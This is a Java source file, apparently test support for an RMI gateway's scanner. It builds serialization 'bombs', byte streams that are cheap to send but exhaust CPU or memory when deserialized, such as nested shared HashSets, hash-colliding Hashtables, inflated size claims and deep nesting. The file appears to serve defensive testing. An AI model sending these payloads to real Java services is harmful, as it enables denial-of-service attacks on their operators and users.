package io.rmigate.gateway.scan;

import io.rmigate.gateway.scan.shape.Shape;
import io.rmigate.gateway.scan.shape.Shapes;
import io.rmigate.protocol.jrmp.CallBytes;
import io.rmigate.protocol.jrmp.Jrmp;
import io.rmigate.protocol.jrmp.StreamClass.Field;
import java.io.ObjectStreamConstants;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.stream.IntStream;

/** Calls that are short to send and long, or large, to read. */
public final class Bombs {

  /** Of the JDK's classes; the last version of each. */
  static Shape shape(String name) {
    return Shapes.ofJdk().all().stream()
        .filter(shape -> shape.name().equals(name))
        .reduce((first, second) -> second)
        .orElseThrow();
  }

  /** Each set holds the two of the next level, as the one beside it does. */
  static byte[] setsOfSharedSets(int levels) {
    HandWritten call = HandWritten.call();
    Shape set = shape("java.util.HashSet");
    // From the innermost on, so that each level refers to what stands before it.
    int[] below = new int[0];
    Integer descriptor = null;
    call.array().descriptor("[Ljava.lang.Object;", 1, 2, List.of()).nothing().data();
    call.int32(2 * levels);
    for (int level = 0; level < levels; level++) {
      int[] these = new int[2];
      for (int i = 0; i < 2; i++) {
        call.object();
        if (descriptor == null) {
          descriptor = call.handles();
          call.descriptor(set).nothing();
        } else {
          call.reference(descriptor);
        }
        these[i] = call.handles();
        call.data();
        call.block(size(16, 0x3F400000, below.length + i));
        for (int handle : below) {
          call.reference(handle);
        }
        if (i == 1) {
          call.string("foo");
        }
        call.end();
      }
      below = these;
    }
    return call.toByteArray();
  }

  static byte[] size(int... numbers) {
    ByteBuffer bytes = ByteBuffer.allocate(4 * numbers.length);
    Arrays.stream(numbers).forEach(bytes::putInt);
    return bytes.array();
  }

  /** A set that is told again and again of the same object, which is long to hash. */
  static byte[] setOfOneLongKey(int longs, int times) {
    HandWritten call = HandWritten.call();
    call.object().descriptor(shape("java.util.BitSet")).nothing();
    int bits = call.handles();
    call.data();
    call.array().descriptor("[J", 0x782004b512b17593L, 2, List.of()).nothing().data();
    call.int32(longs).raw(new byte[Long.BYTES * (longs - 1)]).int64(1).end();
    call.object().descriptor(shape("java.util.HashSet")).nothing().data();
    call.block(size(16, 0x3F400000, times));
    for (int i = 0; i < times; i++) {
      call.reference(bits);
    }
    return call.end().toByteArray();
  }

  /** A set that is told again and again of one list that holds nothing: each null is looked at. */
  static byte[] setOfOneListOfNulls(int nulls, int times) {
    HandWritten call = HandWritten.call();
    call.object().descriptor(shape("java.util.ArrayList")).nothing();
    int list = call.handles();
    call.data().int32(nulls).block(size(nulls)).hex(NULL.repeat(nulls)).end();
    return setOf(call, list, times);
  }

  /** A set that is told again and again of one list of which nothing is known but its shape. */
  static byte[] setOfOneLinkedListOfNulls(int nulls, int times) {
    HandWritten call = HandWritten.call();
    call.object().descriptor(shape("java.util.LinkedList")).nothing();
    int list = call.handles();
    call.data().block(size(nulls)).hex(NULL.repeat(nulls)).end();
    return setOf(call, list, times);
  }

  /** An object of an unknown class with {@code nulls} fields that are null. */
  static byte[] setOfOneWideObject(int nulls, int times) {
    List<Field> fields =
        IntStream.range(0, nulls)
            .mapToObj(i -> new Field("f%04d".formatted(i), "Ljava/lang/Object;"))
            .toList();
    HandWritten call = HandWritten.call();
    call.object().descriptor("com.acme.Wide", 1, 2, fields).nothing();
    int wide = call.handles();
    call.data().hex(NULL.repeat(nulls));
    return setOf(call, wide, times);
  }

  /**
   * Lists in each other by a field that is not hashed, so that each refers twice to the one around
   * it while that is open; behind them a set of the innermost.
   */
  static byte[] listsThatReferToTheOnesAround(int levels) {
    HandWritten call = HandWritten.call();
    Shape list = shape("java.util.LinkedList");
    int[] outer = new int[levels];
    call.array().descriptor("[Ljava.lang.Object;", 1, 2, List.of()).nothing().data().int32(2);
    int ofOuter = call.handles();
    int ofList = -1;
    for (int level = 0; level < levels; level++) {
      call.object();
      if (level == 0) {
        call.descriptor(shape("java.util.Collections$UnmodifiableList"));
        call.descriptor(shape("java.util.Collections$UnmodifiableCollection")).nothing();
      } else {
        call.reference(ofOuter);
      }
      outer[level] = call.handles();
      call.data();
    }
    for (int level = levels; level >= 0; level--) { // the innermost holds an empty one first
      call.object();
      if (ofList < 0) {
        ofList = call.handles();
        call.descriptor(list).nothing();
      } else {
        call.reference(ofList);
      }
      call.data();
      if (level == levels || level == 0) {
        call.block(size(0));
      } else {
        call.block(size(2)).reference(outer[level - 1]).reference(outer[level - 1]);
      }
      call.end();
    }
    call.object().descriptor(shape("java.util.HashSet")).nothing().data();
    return call.block(size(16, 0x3F400000, 1)).reference(outer[levels - 1]).end().toByteArray();
  }

  private static byte[] setOf(HandWritten call, int key, int times) {
    call.object().descriptor(shape("java.util.HashSet")).nothing().data();
    call.block(size(16, 0x3F400000, times));
    for (int i = 0; i < times; i++) {
      call.reference(key);
    }
    return call.end().toByteArray();
  }

  /** A queue that puts two long texts, each again and again, in their order. */
  static byte[] queueOfLongTexts(int length, int times) {
    HandWritten call = longTexts(length);
    call.object().descriptor(shape("java.util.PriorityQueue")).nothing().data();
    call.int32(times).nothing().block(size(times + 1));
    for (int i = 0; i < times; i++) {
      call.reference(i & 1);
    }
    return call.end().toByteArray();
  }

  /** A map that looks whether such keys are in their order. */
  static byte[] orderedMapOfLongTexts(int length, int times) {
    HandWritten call = longTexts(length);
    call.object().descriptor(shape("java.util.concurrent.ConcurrentSkipListMap")).nothing();
    call.data().nothing();
    for (int i = 0; i < times; i++) {
      call.reference(i & 1).reference(0);
    }
    return call.nothing().end().toByteArray();
  }

  /** Two that are equal, with the handles 0 and 1. */
  private static HandWritten longTexts(int length) {
    HandWritten call = HandWritten.call();
    for (int i = 0; i < 2; i++) {
      call.hex("7c").int64(length).raw(new byte[length]).data();
    }
    return call;
  }

  /** A queue of a decimal number with very many digits, and of one that is as large. */
  static byte[] queueOfLongDecimals(int digits, int times) {
    BigDecimal large = new BigDecimal(BigInteger.TEN.pow(digits - 1));
    BigDecimal power = new BigDecimal(BigInteger.ONE, 1 - digits);
    List<BigDecimal> numbers = new ArrayList<>();
    for (int i = 0; i < times; i++) {
      numbers.add(i % 2 == 0 ? large : power);
    }
    return CallBytes.callWith(new PriorityQueue<>(numbers));
  }

  /**
   * Objects of a class that all have the same long array in each field, and in what comes behind: a
   * receiver that copies the array, or reads it, does so for each object.
   */
  static byte[] sharing(String name, boolean primitives, int length, int times) {
    HandWritten call = HandWritten.call();
    if (primitives) {
      call.array().descriptor("[B", 1, 2, List.of()).nothing().data();
      call.int32(length).raw(new byte[length]);
    } else {
      call.array().descriptor("[Ljava.lang.Object;", 1, 2, List.of()).nothing().data();
      call.int32(length).hex(NULL.repeat(length));
    }
    int shared = call.handles() - 1;
    call.array().descriptor("[Ljava.lang.Object;", 1, 2, List.of()).nothing().data();
    call.int32(times);
    List<Shape> chain = new ArrayList<>();
    for (String next = name; !next.isEmpty(); next = chain.get(0).superclass()) {
      chain.add(0, shape(next));
    }
    int described = call.handles();
    for (int i = 0; i < times; i++) {
      call.object();
      if (i == 0) {
        for (int at = chain.size() - 1; at >= 0; at--) {
          call.descriptor(chain.get(at));
        }
        call.nothing();
      } else {
        call.reference(described);
      }
      call.data();
      chain.forEach(type -> sharingData(call, type, shared));
    }
    return call.toByteArray();
  }

  private static void sharingData(HandWritten call, Shape type, int shared) {
    for (Field field : type.fields()) {
      switch (field.signature().charAt(0)) {
        case 'Z', 'B' -> call.hex("00");
        case 'F', 'I' -> call.int32(0);
        case 'J' -> call.int64(0);
        default -> call.reference(shared);
      }
    }
    if (type.form() == Shape.Form.FIELDS_AND_OWN_DATA) {
      call.block(size(0)).reference(shared).end();
    }
  }

  /** A list in a list, and so on, of which each claims that all that follows is in it. */
  static byte[] nestedClaims(String name, int depth, int claimed, byte... before) {
    HandWritten call = HandWritten.call();
    int described = call.handles();
    for (int i = 0; i < depth; i++) {
      call.object();
      if (i == 0) {
        call.descriptor(shape(name)).nothing();
      } else {
        call.reference(described);
      }
      call.data();
      if (name.endsWith("Map")) {
        call.raw(before).block(size(16, claimed));
      } else {
        call.int32(claimed).block(size(claimed));
      }
    }
    for (int i = 0; i < depth; i++) {
      call.end();
    }
    call.array().descriptor("[B", 1, 2, List.of()).nothing().data();
    return call.int32(2 * claimed).raw(new byte[2 * claimed]).toByteArray();
  }

  /** A Hashtable of one entry, for whose load factor JDK 8 makes a table as long as it says. */
  static byte[] tableOfATinyLoadFactor(float load) {
    HandWritten call = HandWritten.call();
    call.object().descriptor(shape("java.util.Hashtable")).nothing().data();
    call.int32(Float.floatToIntBits(load)).int32(0).block(size(Integer.MAX_VALUE - 8, 1));
    return call.string("key").string("value").end().toByteArray();
  }

  /** A Hashtable with strings of one hash code for keys. */
  static byte[] tableOfAlike(int count) {
    HandWritten call = HandWritten.call().string("value");
    call.object().descriptor(shape("java.util.Hashtable")).nothing().data();
    call.int32(0x3F400000).int32(12).block(size(2 * count + 1, count));
    for (int i = 0; i < count; i++) {
      call.string(alike(i)).reference(0);
    }
    return call.end().toByteArray();
  }

  /** A Hashtable of which the keys are referred to where they are not hashed yet. */
  static byte[] tableOfReferences(int count) {
    HandWritten call = HandWritten.call().string("value");
    for (int i = 0; i < count; i++) {
      call.string(alike(i));
    }
    call.object().descriptor(shape("java.util.Hashtable")).nothing().data();
    call.int32(0x3F400000).int32(12).block(size(2 * count + 1, count));
    for (int i = 0; i < count; i++) {
      call.reference(i + 1).reference(0);
    }
    return call.end().toByteArray();
  }

  /** A Hashtable that has one place for all its keys, as JDK 8 believes. */
  static byte[] tableOfOnePlace(int count) {
    HandWritten call = HandWritten.call().string("value");
    call.object().descriptor(shape("java.util.Hashtable")).nothing().data();
    call.int32(0x3F400000).int32(12).block(size(1, count));
    for (int i = 0; i < count; i++) {
      call.string("key " + i).reference(0);
    }
    return call.end().toByteArray();
  }

  /** A string that has the hash code of all others that this method makes. */
  static String alike(int number) {
    StringBuilder text = new StringBuilder();
    for (int bit = 0; bit < 17; bit++) {
      text.append((number >> bit & 1) == 0 ? "Aa" : "BB");
    }
    return text.toString();
  }

  /** The names of {@link #lieBehind}'s classes. */
  public static List<String> foreignClasses(int count) {
    return IntStream.range(0, count).mapToObj("com.acme.legacy.Opaque%05d"::formatted).toList();
  }

  /** Class objects of {@code classes} classes, and a RemoteObject that claims to have fields. */
  public static byte[] lieBehind(int classes) {
    HandWritten call = HandWritten.call();
    for (String name : foreignClasses(classes)) {
      call.hex("76").descriptor(name, 1, 2, List.of()).nothing().data();
    }
    Shape remote = shape(Stubs.REMOTE_OBJECT);
    List<Field> fields = List.of(new Field("lie", "J"));
    call.object()
        .descriptor(shape(Stubs.HANDLER))
        .descriptor(remote.name(), remote.serialVersionUid(), 3, fields)
        .nothing()
        .data();
    return call.int64(0).end().toByteArray();
  }

  /** A HashMap whose one key is the argument of a Call. */
  static byte[] mapWithKey(byte[] argument) {
    int header = HandWritten.call().length();
    HandWritten call = HandWritten.call();
    // The argument first, so that its handles are those it was written with.
    call.raw(Arrays.copyOfRange(argument, header, argument.length));
    call.object().descriptor(shape("java.util.HashMap")).nothing().data();
    call.int32(0x3F400000).int32(12).block(size(16, 1));
    call.reference(1).nothing().end(); // the object behind its descriptor
    return call.toByteArray();
  }

  /** A collection of the JDK that claims to hold as many as an int can count. */
  static byte[] claiming(String name, byte... data) {
    HandWritten call = HandWritten.call();
    call.object().descriptor(shape(name)).nothing().data().raw(data);
    return call.toByteArray();
  }

  /** Many small things, each of which a reader makes something of. */
  public static Map<String, byte[]> hungry() {
    Map<String, HandWritten> written = new LinkedHashMap<>();
    HandWritten strings = HandWritten.call();
    HandWritten objects = HandWritten.call();
    HandWritten references = HandWritten.call().string("");
    HandWritten classes = HandWritten.call();
    HandWritten names = HandWritten.call();
    HandWritten proxies = HandWritten.call();
    HandWritten proxyObjects = HandWritten.call();
    HandWritten empty = HandWritten.call();
    HandWritten codebases = HandWritten.call();
    HandWritten shortest = HandWritten.call();
    HandWritten fewNames = HandWritten.call();
    objects.array().descriptor("[Ljava.lang.Object;", 1, 2, List.of()).nothing().data().int32(0);
    for (int i = 0; i < 300_000; i++) {
      strings.string("");
      objects.array().reference(0).data().int32(1).nothing();
      references.reference(0);
      if (i < 4_000) {
        // As short as they may be on average, of 32 bytes; shorter ones, below, are not taken.
        String name = "%014d".formatted(i);
        classes.hex(NULL.repeat(14) + "76").descriptor("", 1, 2, List.of()).nothing().data();
        names.hex("76").descriptor(name, 0, 0, List.of()).nothing().data();
        codebases.hex("76").unannotated(name, 0, 0, List.of()).string("a");
        codebases.end().nothing().data();
        if (i < 1_100) {
          fewNames.hex("76").descriptor(name, 0, 0, List.of()).nothing().data();
        }
        proxies.hex("76").proxy("a%08d".formatted(i), "b%08d".formatted(i)).nothing().data();
        proxyObjects.object().proxy(name + name, "").nothing().data();
        empty.hex(NULL.repeat(23) + "76").proxy().nothing().data();
        shortest.proxy().nothing();
      }
    }
    written.put("strings", strings);
    written.put("objects", objects);
    written.put("references", references);
    written.put("classes", classes);
    written.put("names", names);
    written.put("codebases", codebases);
    written.put("few names", fewNames);
    written.put("proxies", proxies);
    written.put("objects of many proxies", proxyObjects);
    written.put("proxies of nothing", empty);
    written.put("shortest descriptors", shortest);
    Map<String, byte[]> bombs = new LinkedHashMap<>();
    written.forEach((name, call) -> bombs.put(name, call.toByteArray()));
    bombs.put("sets of shared sets", setsOfSharedSets(500));
    bombs.putAll(repetitive());
    return bombs;
  }

  /** A few bytes, again and again, that refer to what a reader must look at to judge them. */
  private static Map<String, byte[]> repetitive() {
    String longName = "a".repeat(60_000);
    Map<String, HandWritten> written = new LinkedHashMap<>();
    HandWritten interfaces = HandWritten.call();
    interfaces.hex("76").proxy(names(60_000)).nothing().data();
    HandWritten holders = HandWritten.call();
    stub(holders.object().descriptor(longName, 1, 2, List.of()), ODD_REFERENCE);
    HandWritten wideProxies = HandWritten.call();
    wideProxies.object().proxy(names(10_000)).descriptor(shape("java.lang.reflect.Proxy"));
    wideProxies.nothing().data();
    int handler = wideProxies.handles();
    wideProxies.object().descriptor(shape("java.rmi.server.RemoteObjectInvocationHandler"));
    stub(wideProxies, ODD_REFERENCE);
    HandWritten references = HandWritten.call();
    references.object().descriptor(shape("java.rmi.server.RemoteObjectInvocationHandler"));
    stub(references, REFERENCE);
    HandWritten impossible = HandWritten.call();
    impossible.object().descriptor("[L" + longName + ";", 1, 2, List.of()).nothing().data();
    HandWritten nested = HandWritten.call();
    nested.array().descriptor("[Ljava.lang.Object;", 1, 2, List.of()).nothing().data().int32(1);
    for (int i = 0; i < 20_000; i++) {
      holders.object().reference(0).data().raw(ODD_REFERENCE);
      wideProxies.object().reference(0).data();
      wideProxies.object().reference(handler).data().raw(ODD_REFERENCE);
      references.object().reference(0).data().raw(REFERENCE);
      impossible.object().reference(0).data();
      if (i < 2_050) { // just more than a power of two: so memory for stacks grows
        nested.array().reference(0).data().int32(1);
      }
    }
    HandWritten sameInterfaces = HandWritten.call();
    for (int i = 0; i < 2_000; i++) {
      sameInterfaces.hex("76").proxy(names(i % 2 == 0 ? 60 : 61)).nothing().data();
    }
    written.put("same interfaces", sameInterfaces);
    written.put("interfaces", interfaces);
    written.put("holders", holders);
    written.put("wide proxies", wideProxies);
    written.put("remote references", references);
    written.put("impossible objects", impossible);
    written.put("nested arrays", nested.nothing());
    written.put("marshalled objects", marshalled(10_000, STREAM_OF_NULL));
    HandWritten locations = HandWritten.bytes().hex("aced0005");
    for (int i = 0; i < 4_000; i++) {
      locations.hex(NULL.repeat(14) + "76").descriptor("", 1, 2, List.of()).nothing().data();
    }
    HandWritten few = HandWritten.bytes().hex("aced0005");
    for (int i = 0; i < 60; i++) {
      few.proxy().nothing();
    }
    written.put("short descriptors in many streams", marshalled(2_000, few.toByteArray()));
    written.put("locations", marshalled(5, locations.toByteArray()));
    written.put("references from far below", deepReferences());
    Map<String, byte[]> bombs = new LinkedHashMap<>();
    written.forEach((name, call) -> bombs.put(name, call.toByteArray()));
    return bombs;
  }

  /**
   * More objects than are remembered one by one, then as deep as can be, then back to the first.
   */
  private static HandWritten deepReferences() {
    HandWritten call = HandWritten.call();
    call.array().descriptor("[Ljava.lang.Object;", 1, 2, List.of()).nothing().data().int32(1);
    call.string("");
    for (int i = 0; i < 1_060_000; i++) {
      if (i % 256 == 0) {
        call.array().reference(0).data().int32(1);
      }
      call.string("");
    }
    for (int i = 0; i < 4_000; i++) {
      call.array().reference(0).data().int32(i < 3_999 ? 1 : 200_000);
    }
    for (int i = 0; i < 200_000; i++) {
      call.reference(1);
    }
    return call;
  }

  private static String[] names(int count) {
    String[] names = new String[count];
    Arrays.setAll(names, i -> "" + (char) ('a' + i % 26));
    return names;
  }

  /** In hex, one. */
  private static final String NULL = "70";

  private static final byte[] STREAM_OF_NULL = HexFormat.of().parseHex("aced000570");

  /** What the data of a RemoteObject must not be: nothing. */
  private static final byte[] ODD_REFERENCE = {ObjectStreamConstants.TC_ENDBLOCKDATA};

  /** To an object at a host of one letter. */
  private static final byte[] REFERENCE =
      HandWritten.bytes()
          .block(
              HandWritten.bytes()
                  .utf("UnicastRef")
                  .utf("a")
                  .int32(1)
                  .raw(new byte[Jrmp.OBJ_ID_BYTES + 1])
                  .toByteArray())
          .end()
          .toByteArray();

  /** The rest of the first of many objects whose class extends RemoteObject. */
  private static void stub(HandWritten call, byte[] data) {
    call.descriptor(shape("java.rmi.server.RemoteObject")).nothing().data().raw(data);
  }

  private static HandWritten marshalled(int count, byte[] locations) {
    HandWritten call = HandWritten.call();
    int ofBytes = 0;
    for (int i = 0; i < count; i++) {
      if (i == 0) {
        call.object().descriptor(shape("java.rmi.MarshalledObject")).nothing().data().int32(0);
        ofBytes = call.handles();
        call.array().descriptor("[B", 1, 2, List.of()).nothing().data();
      } else {
        call.object().reference(0).data().int32(0).array().reference(ofBytes).data();
      }
      call.int32(locations.length).raw(locations);
      call.array().reference(ofBytes).data().int32(STREAM_OF_NULL.length).raw(STREAM_OF_NULL);
    }
    return call;
  }

  private Bombs() {}
}
